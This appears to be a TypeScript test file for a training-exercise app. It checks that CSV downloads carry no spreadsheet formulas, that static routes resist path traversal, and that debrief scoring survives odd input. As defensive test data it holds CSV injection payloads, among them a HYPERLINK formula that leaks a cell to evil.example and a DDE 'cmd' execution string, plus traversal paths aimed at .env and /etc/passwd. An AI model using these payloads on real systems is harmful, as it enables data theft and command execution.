/** Cases 48 and 56 of the faults and attacks: tables for spreadsheets, and the debrief of arbitrary texts. */
import * as fc from 'fast-check';
import Papa from 'papaparse';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { debrief } from '../../../shared/debrief/compute.ts';
import { writeExchange } from '../../../server/cli/translate/exchange.ts';
import { aScenario } from '../../support/a-scenario.ts';
import { toCsv } from '../../../server/http/csv.ts';
import { request } from '../../support/http.ts';
import { startTestServer, type TestServer } from '../../support/test-server.ts';
import { TestTrainee } from '../../support/test-trainee.ts';

/** What spreadsheets treat as a formula, also after ignored spaces and characters. */
const FORMULAS = [
  '=1+1',
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '+1',
  '-1+cmd|"/c calc"!A0',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '"=1+1',
  '";=1+1;"',
  'a\r\n=1+1',
  '=1\u0000',
];
/** How a spreadsheet recognises a formula. */
const isFormula = (cell: string): boolean => /^[=+\-@\t\r]/.test(cell);
const cells = (csv: string): string[] =>
  Papa.parse<string[]>(csv.replace(/^\uFEFF/, ''), { delimiter: ',' }).data.flat();

let server: TestServer;
beforeAll(async () => {
  server = await startTestServer();
});
afterAll(() => server.stop());

it('no cell of a table is a formula, for any text, and every cell reads back complete', () => {
  const text = fc.string({ unit: fc.constantFrom('=', '+', '-', '@', '\t', '\r', '\n', '"', ',', ';', "'", 'a', '1') });
  fc.assert(
    fc.property(fc.array(fc.array(text, { minLength: 2, maxLength: 2 }), { minLength: 1, maxLength: 5 }), (rows) => {
      const [, ...read] = Papa.parse<string[]>(toCsv(['one', 'two'], rows).slice(1), {
        delimiter: ',',
        newline: '\r\n',
      }).data;
      expect(read.flat().filter(isFormula)).toEqual([]);
      const meant = rows.map((row) => row.map((cell) => (isFormula(cell) ? `'${cell}` : cell)));
      expect(read.slice(0, rows.length)).toEqual(meant);
    }),
    { numRuns: 500 },
  );
});

it('texts for a translator contain no formula', async () => {
  const rows = FORMULAS.map((source, at) => ({
    path: `items.i${at}.text`,
    source,
    translation: source,
    state: 'missing' as const,
    optional: false,
  }));
  const parcel = { name: 'x', languages: { source: 'en', target: 'fr' }, rows: rows as never, contextOf: () => '=cmd' };
  expect(cells(await writeExchange('csv', parcel)).filter(isFormula)).toEqual([]);
});

it('every download is a file with a declared type and contains no formula', async () => {
  const trainer = await server.trainer();
  const { pin, exercise } = await trainer.opensClass({ label: '=1+1' });
  await trainer.entersRoom();
  const person = await TestTrainee.joins(server.url, pin, '=1+1', 'police');
  await trainer.does({ type: 'start-exercise' });
  for (const text of FORMULAS) await person.does({ type: 'raise-hand', text });
  await trainer.does({ type: 'end-exercise' });
  for (const ending of ['debrief.csv', 'debrief.json', 'playthrough.yaml']) {
    const { headers, body, status } = await request(`${server.url}/api/exercises/${exercise}/${ending}`, {
      headers: { cookie: trainer.cookie },
    });
    expect([ending, status]).toEqual([ending, 200]);
    expect(headers.get('content-disposition')).toMatch(/^attachment; filename="?EXERCISE-[\w.-]+"?$/);
    expect(headers.get('x-content-type-options')).toBe('nosniff');
    expect(headers.get('cache-control')).toBe('no-store');
    if (ending.endsWith('.csv')) expect(cells(String(body)).filter(isFormula)).toEqual([]);
  }
});

it.each([
  '/assets/../../package.json',
  '/assets/%2e%2e/%2e%2e/package.json',
  '/..%2f..%2fpackage.json',
  '/assets/..%5c..%5cpackage.json',
  '/api/art/..%2f..%2fscenario.yaml.svg',
  '/api/art/%00.svg',
  '/%c0%ae%c0%ae/package.json',
  '/assets/con',
  '/.env',
  '/assets//etc/passwd',
])('the address %s serves no file outside', async (path) => {
  const answer = await request(`${server.url}${path}`);
  expect(JSON.stringify(answer.body)).not.toMatch(/"?dependencies|root:|format: 1/);
  expect(answer.status).not.toBe(500);
});

it('a debrief completes with valid marks for any texts and any missing texts', () => {
  const compiled = aScenario();
  const odd = fc.oneof(
    fc.double(),
    fc.constantFrom(
      Number.NaN,
      Number.POSITIVE_INFINITY,
      -1,
      1e308,
      null,
      undefined,
      '',
      '__proto__',
      'x'.repeat(100_000),
    ),
    fc.string(),
    fc.array(fc.string(), { maxLength: 3 }),
  );
  const type = fc.constantFrom(
    'hand-raised',
    'message-sent',
    'decision-logged',
    'screened',
    'item-taken',
    'no-such-event',
  );
  const event = fc.record({
    type,
    at: fc.nat({ max: 10 ** 9 }),
    text: odd,
    reason: odd,
    person: fc.constantFrom('nyota', 'juma', 'coach', 'nobody'),
    item: fc.constantFrom('tip', 'bus-manifest', 'nothing'),
    by: fc.constantFrom('police', 'nobody'),
    confidence: odd,
  });
  fc.assert(
    fc.property(fc.array(event, { maxLength: 8 }), (made) => {
      const events = made.map((one, at) => ({ ...one, seq: at + 1 }));
      const began = performance.now();
      const result = debrief(compiled, events as never);
      expect(performance.now() - began).toBeLessThan(5000);
      for (const { rating, tasks, measures } of result.competencies) {
        for (const { value } of measures) expect(Number.isFinite(value)).toBe(true);
        expect(['P', 'S', 'M', 'U', 'none']).toContain(rating);
        for (const task of tasks) {
          expect(['must', 'should']).toContain(task.weight);
          expect(['done', 'late', 'repaired', 'missed', 'no-chance']).toContain(task.result);
          expect(task.doneAt ?? 0).toBeGreaterThanOrEqual(0);
        }
      }
    }),
    { numRuns: 60 },
  );
});
